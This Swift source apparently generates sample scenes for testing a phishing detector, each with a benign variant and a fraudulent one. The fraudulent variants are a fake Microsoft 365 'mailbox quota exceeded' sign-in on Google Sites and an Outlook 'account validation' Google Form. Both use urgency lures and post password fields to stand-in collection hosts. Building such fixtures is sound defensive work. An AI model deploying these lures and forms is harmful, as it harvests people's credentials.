/// A false mailbox sign-in on a path of a platform that serves everybody's pages under one name.
enum MailboxForm {
    static func site(_ cast: SampleCast) -> SampleSite { cast == .first ? first : second }

    private static let first = SampleSite.fraud(
        "mailbox-form", "sites.google.com", "/view/mailbox-quota-desk-0417/home", type: "PH1", shared: true,
        note: "a mailbox sign-in on a page of Google Sites",
        facts: [.claimedIdentity, .promise, .credentialForm, .foreignTarget]
    ) { facts in
        let name = facts.show(.claimedIdentity, "Microsoft 365", otherwise: "Block Party")
        let frame = PageFrame(
            build: .article, language: "en", title: facts.show(.promise, "\(name) mailbox", otherwise: "\(name) sign-up"),
            description: "\(name)",
            siteName: name, prefix: "ms", color: "#0067b8", nav: "Home=/view/mailbox-quota-desk-0417/home",
            footer: ["Report abuse", "\(name)"])
        return SampleScene(
            html: frame.html([
                facts.show(
                    .promise,
                    """
                    <h1>Mailbox quota exceeded</h1><p>Eleven incoming messages are on hold. Your password expires today; sign in to keep
                    the current one and release your mail.</p><img src="https://lh3.googleusercontent.com/sitesv/banner" alt="banner">
                    """,
                    otherwise:
                        "<h1>Who brings what</h1><p>Tables come from the school. Salad, cake and folding chairs are still needed.</p>"
                ),
                facts.show(
                    .credentialForm,
                    FormMarkup(
                        action: facts.show(.foreignTarget, "https://owa-intake.example/m.php", otherwise: ""), prefix: "ms-in",
                        button: "Keep same password",
                        fields: ["Work e-mail|email|email|someone@company.com", "Password|passwd|password|"]
                    ).html),
            ]))
    }

    private static let second = SampleSite.fraud(
        "mailbox-form", "docs.google.com", "/forms/d/e/1FAIpQLSsampleWebmailDesk2/viewform", type: "PH1", shared: true,
        note: "a university mailbox's upgrade on a Google form that asks for the password",
        facts: [.claimedIdentity, .promise, .credentialForm, .foreignTarget]
    ) { facts in
        let name = facts.show(.claimedIdentity, "Outlook", otherwise: "Book swap")
        let frame = PageFrame(
            build: .app, language: "en", title: facts.show(.promise, "\(name) account validation", otherwise: "\(name) list"),
            description: "\(name) form", siteName: name, prefix: "gf", color: "#673ab7", nav: "Clear form=#",
            footer: ["Google Forms", "Never mind"])
        return SampleScene(
            html: frame.html([
                facts.show(
                    .promise,
                    """
                    <div class="gf-card"><h2>Final notice from the help desk</h2><p>Unusual activity stopped your inbox. Every user has to
                    verify your account data before Friday, or the account suspended flag becomes permanent.</p></div>
                    """,
                    otherwise:
                        "<div class=\"gf-card\"><h2>Titles to give away</h2><p>Put down what you have and we will bring a box on the day.</p></div>"
                ),
                facts.show(
                    .credentialForm,
                    FormMarkup(
                        action: facts.show(.foreignTarget, "https://webform-sink.example/save", otherwise: ""), prefix: "gf-q",
                        button: "Submit",
                        fields: [
                            "E-mail address|entry.11|email|", "Current password|entry.12|password|",
                            "Repeat password|entry.13|password|",
                        ]
                    ).html),
            ]))
    }
}
